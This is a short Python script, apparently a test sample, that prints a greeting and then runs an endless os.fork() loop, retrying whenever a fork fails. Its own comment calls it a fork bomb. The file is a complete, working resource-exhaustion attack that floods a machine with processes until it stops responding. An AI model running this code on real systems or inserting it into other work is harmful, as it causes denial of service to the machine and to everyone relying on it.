# A greeting, then processes without end: each one starts more, and one
# that cannot start another tries again, as a fork bomb does.
import os
import sys
import time

print("Hello World!", flush=True)
mark = sys.argv[1:]  # only to be found in the process list
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
